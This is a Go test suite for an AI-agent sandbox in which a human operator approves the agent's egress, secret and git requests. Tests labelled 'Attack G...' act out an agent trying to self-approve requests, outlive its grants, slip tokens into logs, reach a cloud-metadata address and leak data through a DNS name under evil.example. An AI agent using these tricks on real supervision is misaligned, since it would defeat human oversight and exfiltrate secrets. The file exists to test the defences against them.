//go:build linux

package bundle

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/bot-bottle/bot-bottle/internal/audit"
	"github.com/bot-bottle/bot-bottle/internal/control"
	"github.com/bot-bottle/bot-bottle/internal/policy"
	"github.com/bot-bottle/bot-bottle/internal/provision"
	"github.com/bot-bottle/bot-bottle/internal/requests"
)

// supervised is a bundle whose agent may ask.
func supervised(t *testing.T) *running {
	t.Helper()
	c := config(t)
	c.Supervise = true
	r := launch(t, self(t), c)
	r.awaitReady(t)
	return r
}

// agent is an MCP client in the bottle.
func (r *running) agent(t *testing.T) *mcp.ClientSession {
	t.Helper()
	transport := &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, "unix", filepath.Join(r.dir, "supervise.sock"))
	}}
	t.Cleanup(transport.CloseIdleConnections)
	session, err := mcp.NewClient(&mcp.Implementation{Name: "test"}, nil).Connect(t.Context(), &mcp.StreamableClientTransport{
		Endpoint: "http://127.0.0.1:7717/mcp", HTTPClient: &http.Client{Transport: transport}, DisableStandaloneSSE: true,
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = session.Close() })
	return session
}

// call calls a tool; text is what the model reads, out the request that it is about.
func call(t *testing.T, s *mcp.ClientSession, tool string, arguments any, out *requests.Request) (text string, failed bool) {
	t.Helper()
	result, err := s.CallTool(t.Context(), &mcp.CallToolParams{Name: tool, Arguments: arguments})
	if err != nil {
		t.Fatalf("%s: %v", tool, err)
	}
	for _, c := range result.Content {
		if c, ok := c.(*mcp.TextContent); ok {
			text += c.Text
		}
	}
	if out != nil && !result.IsError {
		data, err := json.Marshal(result.StructuredContent)
		if err == nil {
			err = json.Unmarshal(data, &struct{ Request *requests.Request }{out})
		}
		if err != nil {
			t.Errorf("%s: %v", tool, err)
		}
	}
	return text, result.IsError
}

type object map[string]any

// pending returns the only request there is, as the operator sees it.
func (r *running) pending(t *testing.T) requests.Shown {
	t.Helper()
	now, err := r.operate().Requests(t.Context(), -1)
	if err != nil || len(now.Requests) != 1 {
		t.Fatalf("got %+v, %v", now, err)
	}
	return now.Requests[0]
}

func TestTheAgentAsksAndTheOperatorDecides(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	tools, err := agent.ListTools(t.Context(), nil)
	if err != nil || len(tools.Tools) != 10 {
		t.Fatalf("got %v, %v", tools, err)
	}
	for _, tool := range tools.Tools { // what a model is not told of, it does not use
		for where, text := range map[string]string{"the server's instructions": agent.InitializeResult().Instructions, "the agent's prompt": provision.SuperviseNote} {
			if !strings.Contains(text, tool.Name) {
				t.Errorf("%s do not name %s", where, tool.Name)
			}
		}
	}
	if text, _ := call(t, agent, "list_policy", object{}, nil); !strings.Contains(text, "api.example") || strings.Contains(text, realKey) {
		t.Errorf("got %s", text)
	}
	if r.exists(t, "docs.example") {
		t.Fatal("it is reachable already")
	}
	var asked requests.Request
	text, failed := call(t, agent, "request_egress", object{"host": "docs.example", "methods": []string{"GET"}, "paths": []string{"/v1/**"}, "why": "read\x1b[2J the manual"}, &asked)
	if failed || asked.State != requests.Pending || !strings.Contains(text, "check_request") {
		t.Fatalf("got %s %+v", text, asked)
	}
	shown := r.pending(t)
	if shown.ID != asked.ID || shown.Bottle != "dev-abcdef" || shown.Delta[0] != "+ https://docs.example:443 GET /v1/**" || shown.Why[0] != "read[2J the manual" {
		t.Errorf("got %+v", shown)
	}
	waited := make(chan string, 1)
	go func() {
		text, _ := call(t, agent, "check_request", object{"id": asked.ID, "wait_seconds": 50}, nil)
		waited <- text
	}()
	done, err := r.operate().Decide(t.Context(), shown.ID, requests.Decision{Digest: shown.Digest, Approve: true, By: "ann"})
	if err != nil || done.State != requests.Approved {
		t.Fatalf("got %+v, %v", done, err)
	}
	if text := <-waited; !strings.Contains(text, "is approved, until the bottle ends") {
		t.Errorf("got %s", text)
	}
	if !r.exists(t, "docs.example") {
		t.Error("it is not reachable")
	}
	if text, _ := call(t, agent, "list_policy", object{}, nil); !strings.Contains(text, "docs.example:443 GET /v1/** (granted as "+asked.ID) {
		t.Errorf("got %s", text)
	}
	if _, err := r.operate().Revoke(t.Context(), asked.ID); err != nil || r.exists(t, "docs.example") {
		t.Errorf("it was not taken back: %v", err)
	}
	r.wantEvents(t, audit.Lookup, audit.Ask, audit.Decision, audit.GrantEnd, audit.Lookup)
}

// wantEvents reads the log's next lines.
func (r *running) wantEvents(t *testing.T, kinds ...string) {
	t.Helper()
	for _, kind := range kinds {
		var e audit.Event
		if line := r.line(t, &e); e.Kind != kind {
			t.Errorf("got %s, want %s", line, kind)
		}
	}
}

// await polls until f holds: an end that comes by itself has no other sign.
func await(t *testing.T, what string, f func() bool) {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); !f(); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("never: " + what)
		}
	}
}

// says waits until the last line of a gate on stderr, which comes by itself, has all these words.
func (r *running) says(t *testing.T, words ...string) {
	t.Helper()
	await(t, fmt.Sprintf("a gate that says %q", words), func() bool {
		all := r.stderr.String()
		last := all[max(0, strings.LastIndex(all, "the gate ")):]
		return !slices.ContainsFunc(words, func(word string) bool { return !strings.Contains(last, word) })
	})
}

// ask asks for a host, and approve grants it.
func (r *running) ask(t *testing.T, agent *mcp.ClientSession, host string) string {
	t.Helper()
	var asked requests.Request
	if text, failed := call(t, agent, "request_egress", object{"host": host, "why": "x"}, &asked); failed {
		t.Fatal(text)
	}
	return asked.ID
}

func (r *running) approve(t *testing.T, id string, s requests.Scope) {
	t.Helper()
	shown := r.request(t, id)
	if _, err := r.operate().Decide(t.Context(), id, requests.Decision{Digest: shown.Digest, Approve: true, Scope: s}); err != nil {
		t.Fatal(err)
	}
}

func (r *running) request(t *testing.T, id string) requests.Shown {
	t.Helper()
	now, err := r.operate().Requests(t.Context(), -1)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range now.Requests {
		if s.ID == id {
			return s
		}
	}
	t.Fatalf("no %s in %+v", id, now)
	return requests.Shown{}
}

// Attack G13: a grant for a time is used after it.
func TestAttackG13_AGrantEndsAtItsTime(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	id := r.ask(t, agent, "docs.example")
	r.approve(t, id, requests.Scope{For: policy.Span(time.Second)})
	await(t, "the grant ends", func() bool { return !r.exists(t, "docs.example") })
	if got := r.request(t, id); got.Grant.Why != "its time is up" {
		t.Errorf("got %+v", got.Grant)
	}
}

// Attack G13: egress crashes while the time of a grant runs out. It must not come back with it.
func TestAttackG13_ACrashDoesNotProlongAGrant(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	id := r.ask(t, agent, "docs.example")
	r.approve(t, id, requests.Scope{For: policy.Span(2 * time.Second)})
	if !r.exists(t, "docs.example") {
		t.Fatal("it is not reachable")
	}
	for range 3 {
		killService(t, "egress")
		_ = r.exists(t, "api.example") // it is up again
	}
	await(t, "the grant ends", func() bool { return !r.exists(t, "docs.example") })
	killService(t, "egress")
	if r.exists(t, "docs.example") {
		t.Error("it came back")
	}
}

// killService ends one of the bundle's processes.
func killService(t *testing.T, name string) {
	t.Helper()
	signalService(t, name, syscall.SIGKILL)
}

// stopService has one of them hang.
func stopService(t *testing.T, name string) {
	t.Helper()
	signalService(t, name, syscall.SIGSTOP)
}

func signalService(t *testing.T, name string, signal syscall.Signal) {
	t.Helper()
	for _, pid := range children(t) {
		command, _ := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "cmdline"))
		if bytes.Contains(command, []byte("sidecar\x00"+name)) {
			if err := syscall.Kill(pid, signal); err != nil {
				t.Fatal(err)
			}
			return
		}
	}
	t.Fatalf("there is no %s", name)
}

// Attack G12: an agent that owns the supervise service asks its own question. What the
// service can say to the parent has no decision in it.
func TestAttackG12_TheCounterDecidesNothing(t *testing.T) {
	r := supervised(t)
	ours, theirs, err := newLink()
	if err != nil {
		t.Fatal(err)
	}
	link, err := net.FileConn(theirs)
	if err = errors.Join(err, theirs.Close()); err != nil {
		t.Fatal(err)
	}
	api := newOperator(config(t), nil, newLog(new(bytes.Buffer), config(t), func(error) {}))
	close(api.log.begun)
	ctx, cancel := context.WithCancel(t.Context())
	served := make(chan struct{})
	go func() { defer close(served); control.ServeCounter(ctx, ours, api) }()
	defer func() { cancel(); <-served }()
	client := control.NewCounterClient(link)
	asked, err := client.Ask(t.Context(), requests.Ask{Kind: requests.Egress, Route: &policy.Route{Host: "docs.example"}})
	if err != nil {
		t.Fatal(err)
	}
	transport := &http.Transport{Protocols: new(http.Protocols), DialContext: func(context.Context, string, string) (net.Conn, error) {
		return new(net.Dialer).Dial("unix", filepath.Join(r.dir, "supervise.sock"))
	}}
	transport.Protocols.SetHTTP1(true)
	for _, path := range []string{"/v1/requests/" + asked.ID + "/decision", "/v1/egress", "/v1/egress/policy", "/requests/" + asked.ID + "/decision", "/decision"} {
		response, err := (&http.Client{Transport: transport}).Post("http://127.0.0.1:7717"+path, "application/json", strings.NewReader(`{"approve":true}`))
		if err != nil {
			t.Fatal(err)
		}
		_ = response.Body.Close()
		if response.StatusCode != http.StatusNotFound {
			t.Errorf("%s: got %d", path, response.StatusCode)
		}
	}
	if got, err := client.Wait(t.Context(), asked.ID, 0); err != nil || got.State != requests.Pending {
		t.Errorf("got %+v, %v", got, err)
	}
}

// Attack G4: the service crashes with a request open. Nothing is lost, and nothing granted.
func TestAttackG4_ACrashGrantsNothing(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	id := r.ask(t, agent, "docs.example")
	killService(t, "supervise")
	var found requests.Request
	again := r.agent(t)
	if text, failed := call(t, again, "check_request", object{"id": id, "wait_seconds": 0}, &found); failed || found.State != requests.Pending {
		t.Errorf("got %s %+v", text, found)
	}
	if r.exists(t, "docs.example") {
		t.Error("it is reachable")
	}
}

// What an agent gets wrong it is told in words that help.
func TestAsksThatAreRefused(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	for want, c := range map[string]struct {
		tool string
		in   object
	}{
		"addresses are not host names": {"request_egress", object{"host": "169.254.169.254", "why": "x"}},
		"may do this already":          {"request_egress", object{"host": "api.example", "why": "x"}},
		"30m or 2h":                    {"request_egress", object{"host": "docs.example", "why": "x", "for": "soon"}},
		"there is no such request":     {"check_request", object{"id": "x-1"}},
		"are not limited":              {"request_limit", object{"host": "api.example", "requests": 1, "why": "x"}},
	} {
		time.Sleep(100 * time.Millisecond) // the rate limit is another test's
		if text, failed := call(t, agent, c.tool, c.in, nil); !failed || !strings.Contains(text, want) {
			t.Errorf("%s: got %q", c.tool, text)
		}
	}
	if now, err := r.operate().Requests(t.Context(), -1); err != nil || len(now.Requests) != 0 {
		t.Errorf("the operator is bothered with %+v, %v", now, err)
	}
}

// A follower hears of an ask as it comes.
func TestTheOperatorIsToldAtOnce(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	now, err := r.operate().Requests(t.Context(), -1)
	if err != nil {
		t.Fatal(err)
	}
	told := make(chan control.Requests, 1)
	go func() {
		next, _ := r.operate().Requests(t.Context(), now.Revision)
		told <- next
	}()
	var asked requests.Request
	call(t, agent, "ask_operator", object{"question": "Which?", "choices": []string{"a", "b"}}, &asked)
	if got := <-told; len(got.Requests) != 1 || got.Requests[0].Question != "Which?" {
		t.Fatalf("got %+v", got)
	}
	shown := r.pending(t)
	if _, err := r.operate().Decide(t.Context(), shown.ID, requests.Decision{Digest: shown.Digest, Answer: "b"}); err != nil {
		t.Fatal(err)
	}
	if text, _ := call(t, agent, "check_request", object{"id": asked.ID}, nil); !strings.HasSuffix(text, "is answered: b") {
		t.Errorf("got %s", text)
	}
	if _, err := r.operate().Decide(t.Context(), shown.ID, requests.Decision{Digest: "stale"}); err == nil {
		t.Error("it was decided twice")
	}
}

// An operator who decides about something else than what there is by now is told so.
func TestAttackG2_AStaleDigest(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	id := r.ask(t, agent, "docs.example")
	if _, err := r.operate().Decide(t.Context(), id, requests.Decision{Digest: "stale", Approve: true}); !errors.Is(err, requests.ErrChanged) {
		t.Errorf("got %v", err)
	}
	if r.exists(t, "docs.example") {
		t.Error("it is reachable")
	}
}

// Attack G11: the agent's words bring a key that it found before the operator's eyes, and
// into the log.
func TestAttackG11_SecretsInWordsAreMasked(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	const random = "k7Qw2ZpX9LmN4vTb8RsY1cHd6FgJ3a2o1xfv"
	const token = "ghp_" + random // of nobody
	call(t, agent, "ask_operator", object{"question": "May I use " + token + "?", "choices": []string{"yes: " + token}}, nil)
	shown, err := json.Marshal(r.pending(t))
	if err != nil || bytes.Contains(shown, []byte(token)) || !bytes.Contains(shown, []byte("May I use ")) {
		t.Errorf("got %s, %v", shown, err)
	}
	var e audit.Event
	if line := r.line(t, &e); e.Kind != audit.Ask || strings.Contains(line, token) {
		t.Errorf("got %s", line)
	}
	call(t, agent, "request_egress", object{"host": "docs.example", "why": "with " + token}, nil)
	if now, err := r.operate().Requests(t.Context(), -1); err != nil || len(now.Requests) != 2 || strings.Contains(strings.Join(now.Requests[1].Why, ""), token) {
		t.Errorf("got %+v, %v", now, err)
	}
}

// Attack G11: what is asked for holds a key itself: a path, a host, a ref, a header, a line of a
// Dockerfile. It would be in the log, and in what the operator copies; from what is decided nothing
// can be taken out, so that it is not taken down.
func TestAttackG11_NothingIsAskedForWithASecret(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	const token = "ghp_" + "k7Qw2ZpX9LmN4vTb8RsY1cHd6FgJ3a2o1xfv" // of nobody
	for tool, all := range map[string][]object{
		"request_egress":     {{"host": "docs.example", "paths": []string{"/" + token}, "why": "x"}},
		"request_secret":     {{"host": "docs.example", "name": "KEY", "scheme": "header", "header": token, "why": "x"}},
		"request_git":        {{"repository": "https://git.example/acme/" + token, "why": "x"}, {"repository": "https://git.example/acme/widget", "refs": []string{token}, "why": "x"}},
		"request_capability": {{"dockerfile": "ENV TOKEN=" + token, "why": "x"}},
	} {
		for _, arguments := range all {
			if text, failed := call(t, agent, tool, arguments, nil); !failed || !strings.Contains(text, "looks like a secret") {
				t.Errorf("%s of %v: got %q", tool, arguments, text)
			}
		}
	}
	if now, err := r.operate().Requests(t.Context(), -1); err != nil || len(now.Requests) != 0 {
		t.Errorf("taken down: %+v, %v", now, err)
	}
}

// A credential that the operator supplies is the parent's and egress's alone: neither the
// agent nor the operator's lists nor the log ever have it, and it goes with its grant.
func TestASuppliedCredential(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	const value = "supplied-REALrealREAL-0123"
	ask := object{"name": "DEPLOY_TOKEN", "host": "deploy.example", "scheme": "bearer", "methods": []string{"POST"}, "why": "x"}
	var asked requests.Request
	if text, failed := call(t, agent, "request_secret", ask, &asked); failed {
		t.Fatal(text)
	}
	shown := r.pending(t)
	if shown.Delta[0] != "+ https://deploy.example:443 POST with DEPLOY_TOKEN (any path)" || shown.Credentials[0] != "DEPLOY_TOKEN" {
		t.Errorf("got %+v", shown)
	}
	if _, err := r.operate().Decide(t.Context(), shown.ID, requests.Decision{Digest: shown.Digest, Approve: true}); err == nil {
		t.Error("it was granted without a value")
	}
	if _, err := r.operate().Decide(t.Context(), shown.ID, requests.Decision{Digest: shown.Digest, Approve: true, Secret: "two\nlines"}); err == nil || r.request(t, shown.ID).State != requests.Pending {
		t.Errorf("a value that cannot be sent: %v", err)
	}
	if _, err := r.operate().Decide(t.Context(), shown.ID, requests.Decision{Digest: shown.Digest, Approve: true, Secret: value}); err != nil {
		t.Fatal(err)
	}
	if !r.exists(t, "deploy.example") {
		t.Error("it is not reachable")
	}
	policy, err := r.operate().Policy(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for name, v := range map[string]any{"requests": r.pending(t), "policy": policy} {
		if data, err := json.Marshal(v); err != nil || bytes.Contains(data, []byte(value)) {
			t.Errorf("%s: got %s, %v", name, data, err)
		}
	}
	for _, tool := range []string{"list_policy", "list_requests"} {
		if text, _ := call(t, agent, tool, object{}, nil); strings.Contains(text, value) {
			t.Errorf("%s: got %s", tool, text)
		}
	}
	if text, failed := call(t, agent, "request_secret", ask, nil); !failed || !strings.Contains(text, "the bottle has") {
		t.Errorf("again: got %s", text)
	}
	if _, err := r.operate().Revoke(t.Context(), shown.ID); err != nil || r.exists(t, "deploy.example") {
		t.Errorf("taken back: %v", err)
	}
	for _, kind := range []string{audit.Ask, audit.Decision, audit.GrantEnd, audit.Lookup} {
		var e audit.Event
		if line := r.line(t, &e); e.Kind != kind || strings.Contains(line, value) {
			t.Errorf("got %s, want %s", line, kind)
		}
	}
}

// Attack G7: the name that is asked for is looked up by whoever takes the request down, and
// what the agent wrote into it leaves by DNS though nothing was granted. Only a request that
// is allowed has its name looked up.
func TestAttackG7_AskingLooksNothingUp(t *testing.T) {
	r := supervised(t)
	agent := r.agent(t)
	id := r.ask(t, agent, "c2vjcmv0.evil.example")
	call(t, agent, "request_secret", object{"host": "c2vjcmv0.evil.example", "name": "K", "scheme": "bearer", "why": "x"}, nil)
	call(t, agent, "check_request", object{"id": id, "wait_seconds": 0}, nil)
	call(t, agent, "list_requests", object{}, nil)
	call(t, agent, "list_policy", object{}, nil)
	if _, err := r.operate().Requests(t.Context(), -1); err != nil {
		t.Fatal(err)
	}
	r.approve(t, id, requests.Scope{})
	r.approve(t, r.askHTTP(t, agent, "c2vjcmv0.evil.example"), requests.Scope{})
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy"}), DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, "unix", filepath.Join(r.dir, "egress.sock"))
	}}}
	defer client.CloseIdleConnections()
	requested := time.Now().UnixNano()
	if response, err := client.Get("http://c2vjcmv0.evil.example/"); err == nil {
		_ = response.Body.Close()
	}
	await(t, "a lookup", func() bool { return strings.Contains(r.stderr.String(), lookedUp) })
	_, first, _ := strings.Cut(r.stderr.String(), lookedUp)
	first, _, _ = strings.Cut(first, "\n")
	if at, err := strconv.ParseInt(first, 10, 64); err != nil || at < requested {
		t.Errorf("a name was looked up before anything was requested of it: %s, %v", first, err)
	}
}

func (r *running) askHTTP(t *testing.T, agent *mcp.ClientSession, host string) string {
	t.Helper()
	var asked requests.Request
	if text, failed := call(t, agent, "request_egress", object{"host": host, "port": 80, "protocol": "http", "why": "x"}, &asked); failed {
		t.Fatal(text)
	}
	return asked.ID
}
